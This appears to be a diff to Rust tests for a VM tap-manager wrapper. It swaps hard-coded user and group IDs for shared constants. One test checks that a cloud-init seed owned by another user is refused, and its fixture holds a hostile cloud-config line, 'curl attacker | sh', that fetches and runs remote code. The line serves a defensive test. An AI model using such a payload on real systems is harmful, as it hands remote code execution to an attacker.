@@ -26,8 +26,8 @@ fn a_cloud_init_directory_another_user_made_is_refused_before_attaching() {
     if !is_root("a_cloud_init_directory_another_user_made_is_refused_before_attaching") {
         return;
     }
-    const VICTIM: u32 = 47_161;
-    const ATTACKER: u32 = 47_162;
+    use tapmanager_tests::ids::vmwrapper::ATTACKER;
+    use tapmanager_tests::ids::vmwrapper::VICTIM;
     let attack = "#cloud-config\nruncmd: [\"curl attacker | sh\"]\n";
     let tmp = TestDir::new("seed-theirs");
     let seed = tmp.join("seed");
@@ -127,7 +127,7 @@ fn each_adapter_puts_the_fds_where_its_argv_says() {
     if !is_root("each_adapter_puts_the_fds_where_its_argv_says") {
         return;
     }
-    let sb = Sandbox::with_defaults("adapters", 47_131);
+    let sb = Sandbox::with_defaults("adapters", tapmanager_tests::ids::vmwrapper::ADAPTERS_GROUP);
     for (kind, net, want) in [
         (
             "cloud-hypervisor",
@@ -267,9 +267,9 @@ fn firecracker_opens_its_tap_by_name_as_the_caller_and_only_the_caller() {
     }
     use std::io::{BufRead, Write};
     use std::os::unix::fs::PermissionsExt;
-    const GROUP: u32 = 47_141;
-    const USER: u32 = 47_142;
-    const OTHER: u32 = 47_143;
+    use tapmanager_tests::ids::vmwrapper::GROUP;
+    use tapmanager_tests::ids::vmwrapper::OTHER;
+    use tapmanager_tests::ids::vmwrapper::USER;
     let sb = Sandbox::with_defaults("firecracker", GROUP);
     let dir = sb.dir.join("fc");
     std::fs::create_dir_all(&dir).unwrap();
@@ -438,7 +438,10 @@ fn cloud_init_seeds_of_both_versions_render_with_debians_cloud_init() {
         env!("CARGO_MANIFEST_DIR"),
         "/../scripts/cloud-init-render.sh"
     );
-    let sb = Sandbox::with_defaults("cloudinit", 47_151);
+    let sb = Sandbox::with_defaults(
+        "cloudinit",
+        tapmanager_tests::ids::vmwrapper::CLOUDINIT_GROUP,
+    );
     for version in ["1", "2"] {
         let seed = sb.dir.join(format!("seed-v{version}"));
         let mac = format!("02:c1:00:00:00:0{version}");
